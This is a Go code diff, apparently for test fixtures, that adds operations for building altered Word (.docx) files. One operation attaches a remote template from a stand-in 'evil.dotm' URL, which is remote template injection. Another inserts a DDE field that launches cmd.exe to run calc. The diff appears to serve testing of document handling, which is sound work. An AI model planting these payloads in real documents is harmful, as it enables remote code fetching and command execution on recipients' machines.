@@ -76,6 +76,10 @@ func edited(data []byte, ops []string) ([]byte, error) {
 			parts["word/media/zhixiao1.jpg"] = parts["word/media/zhixiao2.jpg"]
 			continue
 		}
+		if op == "macro-template" {
+			parts["word/_rels/settings.xml.rels"] = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>`
+			continue
+		}
 		if op == "append-all" {
 			doc = bodyParagraph.ReplaceAllStringFunc(doc, func(p string) string { return applied(p, op) })
 			continue
@@ -114,6 +118,8 @@ func applied(p, op string) string {
 		return p + `<w:p>` + strings.ReplaceAll(newRun, "审核人补充说明", "审核人新加的一段") + `</w:p>`
 	case "track":
 		return behind(trackedRun)
+	case "dde":
+		return behind(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)
 	case "comment":
 		return behind(`<w:commentRangeStart w:id="7"/><w:r><w:t>此处</w:t></w:r><w:commentRangeEnd w:id="7"/><w:r><w:commentReference w:id="7"/></w:r>`)
 	}
